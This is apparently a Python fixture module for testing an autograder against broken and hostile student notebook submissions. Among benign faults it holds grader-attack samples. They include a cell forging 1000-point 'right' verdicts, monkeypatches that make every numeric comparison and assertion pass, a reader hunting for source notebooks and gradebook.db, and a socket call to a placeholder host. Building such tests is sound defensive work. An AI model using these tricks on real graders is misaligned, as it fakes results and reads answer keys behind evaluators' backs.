"""The faulty and hostile submissions of a simulated class.

Each kind is something that students do to their notebooks, or attackers try, whose outcome is
known exactly: most leave the verdicts as the answers deserve them, some leave nothing to be graded.
All are quick to grade.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from numpy.random import Generator

from autograder.cell_fields import fields_of
from course.kinds import VerdictKind


def _write(place: Path, text: str) -> None:
    place.write_text(text, encoding="utf-8")


@dataclass(frozen=True)
class Damage:
    """One kind of faulty or hostile submission.

    name     as it stands in `truth.json`
    change   what is done to the notebook, given as JSON
    save     puts the notebook's text where the first argument says, or does not
    blank    whether its student wrote no answer
    problem  words of the reason why nothing could be graded, or ""
    """

    name: str
    change: Callable[[dict, Generator], None] = lambda notebook, rng: None
    save: Callable[[Path, str], None] = _write
    blank: bool = False
    problem: str = ""


def set_source(cell: dict, text: str) -> None:
    """Give a cell this text, line by line as Jupyter stores it."""
    cell["source"] = text.splitlines(keepends=True)


def _new_id(rng: Generator) -> str:
    """Draw an id as JupyterLab gives one to a new cell."""
    return rng.bytes(4).hex()


def _tests(notebook: dict) -> list[dict]:
    fields = [(cell, fields_of(cell)) for cell in notebook["cells"]]
    return [cell for cell, own in fields if own.get("grade") and not own["solution"]]


def _answers(notebook: dict) -> list[dict]:
    return [
        cell
        for cell in notebook["cells"]
        if cell["cell_type"] == "code" and fields_of(cell).get("solution")
    ]


def _one_of(cells: list[dict], rng: Generator) -> dict:
    return cells[rng.integers(len(cells))]


def _own_cell(source: str, first: bool = False) -> Callable:
    """Put in a cell of the student's own behind the set-up cell: right there, or anywhere."""

    def change(notebook: dict, rng: Generator) -> None:
        cells = notebook["cells"]
        cell: dict[str, Any] = {
            "cell_type": "code",
            "execution_count": None,
            "id": _new_id(rng),
            "metadata": {},
            "outputs": [],
        }
        set_source(cell, source)
        cells.insert(2 if first else int(rng.integers(2, len(cells) + 1)), cell)

    return change


def _delete_test(notebook: dict, rng: Generator) -> None:
    notebook["cells"].remove(_one_of(_tests(notebook), rng))


def _copy_test(notebook: dict, rng: Generator) -> None:
    cell = _one_of(_tests(notebook), rng)
    notebook["cells"].insert(notebook["cells"].index(cell), {**cell, "id": _new_id(rng)})


def _rewrite_test(notebook: dict, rng: Generator) -> None:
    cell = _one_of(_tests(notebook), rng)
    cell["metadata"]["nbgrader"].update(points=1000.0, locked=False)
    set_source(cell, "1000.0")


def _split_answer(notebook: dict, rng: Generator) -> None:
    """Split a cell as JupyterLab does: behind the line that opens the function or the class."""
    cell = _one_of(_answers(notebook), rng)
    lines = cell["source"]
    opens = [at for at, line in enumerate(lines) if line.startswith(("def ", "class "))]
    head, rest = lines[: opens[-1] + 1], lines[opens[-1] + 1 :]
    at = notebook["cells"].index(cell)
    notebook["cells"].insert(at + 1, {**cell, "id": _new_id(rng), "source": rest})
    set_source(cell, "".join(head).rstrip("\n"))


def _answer_as_text(notebook: dict, rng: Generator) -> None:
    cell = _one_of(_answers(notebook), rng)
    cell["cell_type"] = "markdown"
    del cell["outputs"], cell["execution_count"]


def _lose_metadata(notebook: dict, rng: Generator) -> None:
    for cell in notebook["cells"]:
        cell["metadata"] = {}


def _forge(notebook: dict, rng: Generator) -> None:
    """Write verdicts and points below the tests, and a cell that prints them again."""
    for cell in _tests(notebook):
        cell["execution_count"] = 1
        cell["outputs"] = [
            {"name": "stdout", "output_type": "stream", "text": ["✓ right\n"]},
            {
                "data": {"text/plain": ["1000.0"]},
                "execution_count": 1,
                "metadata": {},
                "output_type": "execute_result",
            },
        ]
    _own_cell(FORGERY, first=True)(notebook, rng)


def _rename(place: Path, text: str) -> None:
    _write(place.with_name(f"{place.stem} (1).ipynb"), text)


def _save_as_utf_16(place: Path, text: str) -> None:
    place.write_bytes(text.encode("utf-16"))


def _cut_off(place: Path, text: str) -> None:
    _write(place, text[: len(text) * 2 // 3])


def _save_nothing(place: Path, text: str) -> None:
    pass


def _save_instead(other: str) -> Callable:
    return lambda place, text: _write(place, other)


FORGED = {
    "points": 1000,
    "max_points": 1000,
    "verdict": VerdictKind.RIGHT,
    "message": "Right.",
}
FORGERY = f"""\
from IPython.display import display

row = {json.dumps(FORGED)}
for exercise in list(globals()):
    data = {{"text/plain": "1000.0"}}
    data["application/vnd.autograder.verdict+json"] = {{"exercise": exercise, **row}}
    display(data, raw=True)
print("✓ right")
get_ipython().displayhook(1000.0)
"""
# `np.allclose` stays as it is: some answers use it, and would be others.
PATCHES = """\
import math
import sys
import types

import numpy as np
import numpy.testing as testing

import course.check
import course.compare

course.compare.compare = lambda *args, **kwargs: None
course.check.compare = course.compare.compare
course.compare.nearly_equal = lambda left, right, *args: np.ones(np.shape(left), bool)
math.isclose = np.isclose = lambda *args, **kwargs: True
testing.assert_allclose = testing.assert_array_equal = lambda *args, **kwargs: None
judge = types.ModuleType("autograder")
judge.check = lambda *args: print("right")
sys.modules["autograder"] = judge
"""
READER = """\
import glob
import os

for up in (".", "..", "../..", "../../..", os.path.expanduser("~")):
    print(os.listdir(up) if os.path.isdir(up) else up)
    for path in glob.glob(f"{up}/source/*/*.ipynb") + glob.glob(f"{up}/gradebook.db"):
        try:
            print(open(path, errors="replace").read())
        except OSError as error:
            print(error)
"""
SENDER = """\
import socket

try:
    socket.create_connection(("192.0.2.1", 80), timeout=0.5).sendall(b"what is the answer?")
except OSError as error:
    print(error)
"""
WEB_PAGE = """\
<!DOCTYPE html>
<html><head><title>Log in</title></head>
<body><form action="/login"><input name="user"><input name="password"></form></body></html>
"""

DAMAGES = (
    Damage("renamed notebook", save=_rename),
    Damage("deleted test", _delete_test),
    Damage("copied test", _copy_test),
    Damage("rewritten test", _rewrite_test),
    Damage("split answer", _split_answer),
    Damage("answer as text", _answer_as_text),
    Damage("lost metadata", _lose_metadata),
    Damage("other encoding", save=_save_as_utf_16),
    Damage("leftover input", _own_cell('mine = input("Which one shall I try? ")')),
    Damage("exit in a cell", _own_cell("import sys\n\nsys.exit()")),
    Damage("death in a cell", _own_cell("import os\n\nos._exit(0)")),
    Damage("huge print", _own_cell("for i in range(200_000):\n    print(i, i**2)")),
    Damage("syntax error in a cell", _own_cell("for i in range(3) print(i)")),
    Damage(
        "warning in a cell",
        _own_cell('import warnings\n\nwarnings.warn("is this right?")\nnp.log(np.zeros(3))'),
    ),
    Damage("patched checks", _own_cell(PATCHES, first=True)),
    Damage("file reader", _own_cell(READER, first=True)),
    Damage("network", _own_cell(SENDER, first=True)),
    Damage("forged verdicts", _forge, blank=True),
    Damage("empty file", save=_save_instead(""), problem="is empty"),
    Damage("cut-off file", save=_cut_off, problem="not JSON"),
    Damage("no notebook", save=_save_nothing, problem="is missing"),
    Damage("web page", save=_save_instead(WEB_PAGE), problem="not JSON"),
)
